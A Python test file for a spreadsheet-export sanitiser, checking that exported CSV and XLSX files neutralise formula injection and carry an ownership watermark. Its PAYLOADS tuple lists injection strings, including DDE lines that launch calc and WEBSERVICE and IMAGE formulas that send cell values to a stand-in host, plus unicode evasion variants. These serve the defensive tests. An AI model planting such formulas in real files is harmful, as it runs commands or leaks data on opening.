"""Files of tables: no cell of any of them is run by a spreadsheet, and each says whose file it is."""

import csv
import io
import re
import unicodedata
import zipfile
from xml.etree import ElementTree

import pytest

from common.sheets import ROWS_MAX, Column, Table, Watermark, as_csv, as_xlsx, cut, harmless

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What has run somewhere: programs, dynamic data exchange, links, functions of the web; behind blanks, quotes, separators,
# controls, invisible and full-width signs.
PAYLOADS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-cmd|'/C calc'!A0",
        "@cmd|'/C calc'!A0",
    ),
    *(
        '=HYPERLINK("https://x.example","here")',
        '=WEBSERVICE("https://x.example/"&A1)',
        '=IMPORTXML("https://x.example","//a")',
    ),
    *(
        '=DDE("cmd";"/C calc";"x")',
        "=rundll32|'URL.dll,OpenURL calc'!A",
        '=IMAGE("https://x.example/"&B2)',
        "=A1",
        "=-1",
        "=@A1",
    ),
    *(
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        " =1+1",
        "   =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\t\t@A1",
        "\x00=1+1",
        "\x1f=1+1",
    ),
    *('"=1+1', '"=1+1"', '" =1+1"', "'=1+1", "''=1+1", '""=1+1', "' =1+1", "\"'=1+1"),
    *(
        ";=1+1",
        ",=1+1",
        "a;=1+1",
        "a,=1+1",
        "a\t=1+1",
        "a\n=1+1",
        "a\r=1+1",
        'a"=1+1',
        'a";"=1+1',
        'a","=1+1',
        "a|=1+1",
        "a; =1+1",
    ),
    *("a;+1", "a;-1", "a;@x", "a,\u00a0=1", "x;y;z;=1", 'a";=1+1;"'),
    *(
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM",
        "﹦1+1",
        "﹢1",
        "﹣1",
        "﹫x",
        "−1",
        "⁼1+1",
        "₌1",
        "⁺1",
        "⁻1",
        " ＝1+1",
        "a；＝1+1",
        "a，＝1",
        "＂＝1+1",
    ),
    *(
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u200e=1+1",
        "\u202e=1+1",
        "\u2060=1+1",
        "a;\u200b=1+1",
        "\u2028=1+1",
        "%0A=1+1",
        "|=1+1",
    ),
    *("+886912345678", "-5", "=", "+", "-", "@", "=\n", "==1", "=+1", "-=1", "@@", "=1;=2", "=1\n=2"),
)
MARK = Watermark("Report", "staff:amy", "2026-06-08 10:00 +08:00", "For: the daily meeting")
RISKY = re.compile("^[\\s\\W]*?[=+\\-@＝＋－＠﹦﹢﹣﹫−⁼₌⁺⁻]")


def table(*texts, title="T", columns=None):
    columns = columns or [Column(f"c{number}") for number in range(len(texts))]
    return Table(title, columns, [texts], total=texts)


def csv_rows(content):
    """As a program reads it that believes the quotes."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content):
    """(sheet, reference, kind, text, has a formula) of every cell, and the names of what the file holds."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        names = file.namelist()
        cells = []
        for name in names:
            if name.startswith("xl/worksheets/"):
                for cell in ElementTree.fromstring(file.read(name)).iter(f"{MAIN}c"):  # noqa: S314 - a file that we have just made
                    text = "".join(cell.itertext())
                    cells.append((name, cell.get("r"), cell.get("t"), text, cell.find(f"{MAIN}f") is not None))
    return names, cells


def is_live(text):
    """Would some program run it, whole or once it has split it at a separator or a quote?"""
    pieces = [text, *re.split('[;,\t\r\n|"＂；，]', text)]
    starts = "=+-@＝＋－＠﹦﹢﹣﹫−⁼₌⁺⁻"
    return any(
        piece.strip(" \u00a0\u3000\u200b\u200e\u202e\u2060\ufeff\x00\x1f\u2028\t\r\n")[:1] in tuple(starts)
        for piece in pieces
    )


def test_whatever_unicode_folds_to_a_start_of_a_formula_is_taken_for_one():
    every = (chr(code) for code in range(0x110000) if not 0xD800 <= code < 0xE000)
    folded = [char for char in every if unicodedata.normalize("NFKC", char)[0] in "=+-@|%−"]

    assert len(folded) > 20
    assert [char for char in folded if harmless(f"{char}1+1") != f"'{char}1+1"] == []
    assert [char for char in folded if harmless(f"a;{char}1+1") != f"'a;'{char}1+1"] == []


def test_the_table_of_payloads_is_what_it_says():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
    assert sum(map(is_live, PAYLOADS)) >= len(PAYLOADS) - 5


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_text_is_run_and_each_risky_one_begins_with_the_guard(payload):
    text = harmless(payload)

    assert text.startswith("'")
    assert not is_live(text)
    assert not re.search("[\x00-\x1f\x7f\u2028\u2029]", text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "PAY-05ZK3T9MQ2W7XC",
        "HM-10-20",
        "a=b",
        "2026-06-08 10:00 +08:00",
        "1 + 1",
        "••••5566",
        "陶壺、紙燈籠",
        "a; b",
        "it's",
    ],
)
def test_what_nobody_runs_stays_as_it_is(text):
    assert harmless(text) == text


def test_a_csv_of_payloads_in_every_text_cell_has_no_live_cell():
    everywhere = [
        table(*PAYLOADS, title=payload, columns=[Column(payload)] * len(PAYLOADS)) for payload in PAYLOADS[:20]
    ]

    rows = csv_rows(as_csv(everywhere, Watermark("=T", "=by", "+at", "=1;=2\n=3", ["@words"])))

    cells = [cell for row in rows for cell in row]
    assert len(cells) > 20 * 2 * len(PAYLOADS)
    assert [cell for cell in cells if is_live(cell)] == []


def test_an_xlsx_of_payloads_has_strings_and_no_formula_link_or_shared_part():
    names, cells = xlsx_cells(
        as_xlsx([table(*PAYLOADS, title=PAYLOADS[0], columns=[Column("=x")] * len(PAYLOADS))], MARK)
    )

    texts = [cell for cell in cells if cell[3]]
    assert len(texts) >= 2 * len(PAYLOADS)
    assert {kind for _, _, kind, _, _ in texts} == {"inlineStr"}
    assert [cell for cell in cells if cell[4]] == []
    assert [text for _, _, _, text, _ in texts if is_live(text)] == []
    assert [name for name in names if "externalLinks" in name or "connections" in name or name.endswith(".bin")] == []


def test_numbers_are_numbers_below_zero_too():
    numbers = Table("T", [Column("a"), Column("n", "number")], [["x", -5], ["y", 12_000]], total=["Total", 11_995])

    assert csv_rows(as_csv([numbers], MARK))[-3:] == [["x", "-5"], ["y", "12000"], ["Total", "11995"]]
    _, cells = xlsx_cells(as_xlsx([numbers], MARK))
    assert [text for _, _, kind, text, _ in cells if kind != "inlineStr" and text] == ["-5", "12000", "11995"]


def test_a_csv_begins_with_a_mark_that_spreadsheets_know_and_with_whose_it_is():
    content = as_csv([table("x")], MARK)

    assert content.startswith(b"\xef\xbb\xbf")
    assert csv_rows(content)[0] == ["# Outpost · Report · staff:amy · 2026-06-08 10:00 +08:00 · For: the daily meeting"]


def test_an_xlsx_says_whose_it_is_in_its_first_lines_and_on_each_printed_page():
    content = as_xlsx(
        [table("x"), table("y", title="An [odd]/name: of 'a sheet' that is far too long")],
        Watermark("R&D", "staff:amy", "now", "why"),
    )

    _, cells = xlsx_cells(content)
    for sheet in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
        assert [text for name, _, _, text, _ in cells if name == sheet][:3] == [
            "Outpost · R&D",
            "staff:amy · now",
            "why",
        ]
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            header = ElementTree.fromstring(file.read(sheet)).find(f"{MAIN}headerFooter/{MAIN}oddHeader")  # noqa: S314 - made just now
        assert header.text.startswith("&LOutpost · R&&D · staff:amy · now · why&R")


def test_more_rows_than_a_file_holds_are_cut_and_it_says_so():
    few = cut("T", [Column("n", "number")], ([number] for number in range(5)), most=5)
    many = cut("T", [Column("n", "number")], ([number] for number in range(6)), most=5)

    assert (len(few.rows), few.is_cut) == (5, False)
    assert (len(many.rows), many.is_cut) == (5, True)
    assert csv_rows(as_csv([many], MARK))[-1] == ["# 5 …"]
    assert ROWS_MAX == 50_000
